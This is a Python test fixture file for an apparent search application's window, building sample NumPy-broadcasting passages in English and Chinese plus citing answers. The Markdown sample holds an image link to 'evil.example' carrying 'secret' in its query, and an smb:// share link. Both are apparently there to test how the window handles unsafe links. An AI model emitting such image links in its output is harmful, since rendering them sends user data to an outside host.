"""Passages and answers for the window's tests."""

from __future__ import annotations

from collections.abc import Sequence

from gangdan_gui.domain.search import Answer, Citation, Passage, Support

RULES = """## General rules

NumPy compares shapes **element-wise**, from the last dimension on. See [the guide](https://numpy.org/doc) or
[this share](smb://server/share). ![drawing](http://evil.example/?q=secret)

```python
x = np.arange(4)

y = x.reshape(4, 1)
```
"""
CHINESE = "广播规则：两个维度相等，或其中一个为 1，就是兼容的。\n\n| 形状 | 结果 |\n|---|---|\n| (4, 1) | (4, 5) |\n"
TITLES = {"numpy": "NumPy 用户指南", "course": "Course 课程"}


def passage(number: int, text: str, source: str = "numpy", heading: tuple[str, ...] = ("Rules",)) -> Passage:
    """A passage of the document “Broadcasting”."""
    return Passage(
        number=number,
        source=source,
        path=f"guide/{number}.md",
        url="",
        title="Broadcasting",
        heading=heading,
        start=10 * number,
        end=10 * number + len(text),
        text=text,
        language="en",
        score=0.9 - number / 100,
        distance=0.1 + number / 100,
    )


PASSAGES = (passage(1, RULES), passage(2, CHINESE, "course", ("广播", "规则")))


def answer(
    passages: Sequence[Passage] = PASSAGES,
    *,
    text: str = "",
    model: str = "",
    supported: Support = Support.YES,
    complete: bool = True,
) -> Answer:
    """An answer that cites all of its passages."""
    citations = tuple(
        Citation(p.number, p.source, TITLES[p.source], p.path, p.url, p.heading, p.start, p.end) for p in passages
    )
    return Answer(text, complete, supported, model, citations, tuple(passages), {"total": 0.42})
